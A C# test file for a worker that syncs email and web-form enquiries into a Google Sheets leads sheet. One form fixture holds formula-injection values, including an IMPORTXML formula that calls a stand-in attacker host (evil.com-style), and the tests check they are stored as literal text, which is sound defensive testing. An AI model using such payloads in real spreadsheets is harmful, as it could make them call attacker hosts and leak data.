using SheetLeads.Core.Sheet;
using SheetLeads.Worker.Tests.EndToEnd;

namespace SheetLeads.Worker.Tests.GoogleSheets;

/// <summary>The real worker, run with <c>sync --once</c> against the Sheets emulator.</summary>
public sealed class GoogleSyncTests
{
    [Fact]
    public async Task New_merged_and_typed_rows_end_up_cell_by_cell_with_customer_text_kept_literal()
    {
        await using var w = await GoogleWorkspace.StartAsync();
        w.Leads.SetRows("A2",
            ["L-000001", "2026-11-10 09:00", "Email", "Sophie Turner", "sophie.turner@example.com", "", "", "Radiators cold", "Warm", "Contacted", "Alice Hart", "", "", "Called her", "2026-11-10 11:00", "2026-11-10 09:00", "1", "", "mail:s1@example.com"],
            ["", "", "Phone", "Dave Typed", "dave@example.com", "", "", "Rang about a leak", "", "New"]);
        w.Files.AddMail("1.eml", Mails.Enquiry("s2@example.com", "Sophie Turner <sophie.turner@example.com>", "Also", "And the towel rail.", "Tue, 17 Nov 2026 10:00:00 +0000"));
        w.Files.AddForm("f1.json", """
            { "id": "f1", "submittedAt": "2026-11-18T12:00:00Z",
              "fields": { "Name": "Gary Newman", "Email": "gary@example.org", "Phone": "+44 7700 900123", "Company": "@SUM(1)",
                          "Message": "=IMPORTXML(\"http://evil.example\",\"//a\") and -1 and +44 7700 900123" } }
            """);

        var run = await w.SyncOnceAsync();

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.StartsWith("sync ok: taken=2 created=1 merged=1 duplicate=0 skipped=0", run.SummaryLine);
        var leads = w.Read();
        Assert.Equal(3, leads.Rows.Count);

        var sophie = leads.Single(LeadColumn.LeadId, "L-000001");
        Assert.Equal("2", leads.Cell(sophie, LeadColumn.Enquiries));
        Assert.Equal("Called her\n2026-11-17 10:00 Email: And the towel rail.", leads.Cell(sophie, LeadColumn.Notes));
        Assert.Equal("2026-11-17 10:00", leads.Cell(sophie, LeadColumn.LastEnquiry));
        Assert.Equal(("Contacted", "Alice Hart", "Radiators cold"), (leads.Cell(sophie, LeadColumn.Status), leads.Cell(sophie, LeadColumn.Owner), leads.Cell(sophie, LeadColumn.Message)));
        Assert.Equal("mail:s1@example.com\nmail:s2@example.com", leads.Cell(sophie, LeadColumn.Ref));

        var dave = leads.Single(LeadColumn.Email, "dave@example.com");
        Assert.Equal(3, dave);
        Assert.Matches("^L-00000[23]$", leads.Cell(dave, LeadColumn.LeadId));
        Assert.Equal(("Dave Typed", "Rang about a leak", "New"), (leads.Cell(dave, LeadColumn.Name), leads.Cell(dave, LeadColumn.Message), leads.Cell(dave, LeadColumn.Status)));

        var gary = leads.Single(LeadColumn.Email, "gary@example.org");
        Assert.Equal(4, gary);
        Assert.Equal("=IMPORTXML(\"http://evil.example\",\"//a\") and -1 and +44 7700 900123", leads.Cell(gary, LeadColumn.Message));
        Assert.False(leads.Raw(gary, LeadColumn.Message).IsFormula);
        Assert.Equal("@SUM(1)", leads.Cell(gary, LeadColumn.Company));
        Assert.False(leads.Raw(gary, LeadColumn.Company).IsFormula);
        Assert.Equal("+447700900123", leads.Cell(gary, LeadColumn.Phone));
        Assert.IsType<string>(leads.Raw(gary, LeadColumn.Phone).EffectiveValue);
        Assert.Equal("2026-11-18 12:00", leads.Cell(gary, LeadColumn.Received));
        Assert.Equal("DATE_TIME", leads.Raw(gary, LeadColumn.Received).NumberFormatType);
        Assert.Equal(("Website form", "Gary Newman", "1"), (leads.Cell(gary, LeadColumn.Source), leads.Cell(gary, LeadColumn.Name), leads.Cell(gary, LeadColumn.Enquiries)));
        Assert.Equal("site:f1", leads.Cell(gary, LeadColumn.Ref));

        var summary = w.Google.Spreadsheet.Tab("Summary").FormattedValues();
        Assert.Contains(summary, r => r.Count > 1 && r[0] == "Open leads" && r[1] == "3");
    }

    [Fact]
    public async Task A_second_cycle_with_nothing_new_makes_no_writes()
    {
        await using var w = await GoogleWorkspace.StartAsync();
        w.Files.AddMail("1.eml", Mails.Enquiry("h1@example.com", "Helen Carter <helen@example.com>", "Cylinder", "Is an unvented cylinder an option?"));
        Assert.Equal(0, (await w.SyncOnceAsync()).ExitCode);
        var before = w.Leads.FormattedValues();
        w.Google.Emulator.Requests.Clear();

        var second = await w.SyncOnceAsync();

        // The cycle's calls are its one read; what follows it is the Summary refresh of sync --once (its own tab).
        Assert.StartsWith("sync ok: taken=0", second.SummaryLine);
        Assert.Contains("api_calls=1 ", second.SummaryLine);
        Assert.Equal(0, w.Google.Emulator.Requests.All.Count(r => r.IsWrite && r.Method.StartsWith("values.", StringComparison.Ordinal)));
        Assert.Equal(before, w.Leads.FormattedValues());
    }

    [Fact]
    public async Task A_late_row_is_coloured_and_loses_its_colour_once_a_person_answers_it()
    {
        await using var w = await GoogleWorkspace.StartAsync();
        w.Files.AddMail("1.eml", Mails.Enquiry("r1@example.com", "Rita Reed <rita@example.com>", "Drains", "Blocked drain."));
        Assert.Equal(0, (await w.SyncOnceAsync()).ExitCode);
        var leads = w.Read();
        var rita = leads.Single(LeadColumn.Email, "rita@example.com");
        Assert.StartsWith("No response", leads.Cell(rita, LeadColumn.Flag));
        Assert.Equal("F4CCCC", leads.Raw(rita, LeadColumn.Name).BackgroundRgb);

        w.Leads.Type($"J{rita}", "Contacted");
        w.Leads.Type($"L{rita}", "2099-01-01");
        var run = await w.SyncOnceAsync();

        Assert.True(run.ExitCode == 0, run.ToString());
        leads = w.Read();
        Assert.Equal("", leads.Cell(rita, LeadColumn.Flag));
        Assert.Null(leads.Raw(rita, LeadColumn.Name).BackgroundRgb);
        Assert.Equal("Contacted", leads.Cell(rita, LeadColumn.Status));
        Assert.NotEqual("", leads.Cell(rita, LeadColumn.FirstResponse));
    }
}
